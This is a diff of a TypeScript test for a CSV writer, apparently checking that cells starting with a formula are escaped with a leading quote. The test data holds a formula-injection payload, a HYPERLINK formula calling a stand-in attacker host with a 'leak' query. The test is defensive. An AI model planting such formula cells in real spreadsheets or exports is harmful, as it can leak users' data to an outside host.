@@ -19,8 +19,7 @@ const hostileText = fc
 describe('csvLines', () => {
   it('neutralises the formula the results CSV let through: a cell with a line break', () => {
     const cell = '=HYPERLINK("http://evil.example/?leak","click")\n';
-    const [[parsed]] = parse(csvLines([[cell]])) as [[string]];
-    expect(parsed).toBe(`'${cell}`);
+    expect(parse(csvLines([[cell]]))[0]?.[0]).toBe(`'${cell}`);
   });
 
   it('keeps plain numbers, negative ones included, as they are', () => {
